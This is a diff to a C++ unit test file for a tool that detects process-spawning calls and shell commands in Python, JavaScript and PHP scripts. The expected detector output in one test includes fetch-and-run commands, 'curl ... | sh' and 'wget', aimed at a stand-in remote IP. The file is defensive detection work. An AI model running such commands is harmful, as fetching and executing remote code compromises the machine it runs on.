@@ -122,16 +122,25 @@ TEST(ScriptsTest, FindsProcessesOfPythonAndJavascript) {
   const auto python = Examine(kScripts, "a.py", kPython);
   EXPECT_EQ(python.Lines(),
             (Strings{"script python",
+                     "call os.system does=process language=python line=3 "
+                     "arg1=curl http://192.0.2.1/a | sh",
                      "command curl http://192.0.2.1/a program=curl line=3 "
                      "pipe_to=sh within=os.system",
                      "command sh program=sh line=3 within=os.system",
-                     "command /bin/ls -l program=ls line=4"}));
+                     "call subprocess.run does=process language=python line=4",
+                     "command /bin/ls -l $name program=ls line=4",
+                     "call subprocess.run does=process language=python "
+                     "line=5"}));
   const auto javascript = Examine(kScripts, "a.js", kJavascript);
   EXPECT_EQ(javascript.Lines(),
             (Strings{"script javascript",
+                     "call child_process.exec does=process "
+                     "language=javascript line=2 arg1=wget http://192.0.2.1/b",
                      "command wget http://192.0.2.1/b program=wget line=2 "
-                     "within=exec",
-                     "command node bundle.js program=node line=4"}));
+                     "within=child_process.exec",
+                     "call child_process.spawn does=process "
+                     "language=javascript line=4 arg1=node",
+                     "command node bundle.js $arg program=node line=4"}));
 }
 
 TEST(ScriptsTest, NamesTheInterpreter) {
@@ -147,6 +156,15 @@ TEST(ScriptsTest, NamesTheInterpreter) {
     EXPECT_EQ(Examine(kScripts, "x", text).Values("script"),
               Strings{std::string(interpreter)});
   }
+}
+
+TEST(ScriptsTest, KnowsPhpByItsTagAndTypeScriptFromMarkup) {
+  EXPECT_EQ(Examine(kScripts, "a.jpg", "<?php a();").Values("script"),
+            Strings{"php"});
+  EXPECT_EQ(Examine(kScripts, "a.ts", "a();").Values("script"),
+            Strings{"javascript"});
+  EXPECT_TRUE(Examine(kScripts, "a.ts", "<?xml version='1.0'?>").facts.empty());
+  EXPECT_TRUE(Examine(kScripts, "a.jpg", "a <?php b();").facts.empty());
 }
 
 TEST(ScriptsTest, TakesNoOtherFileForAScript) {
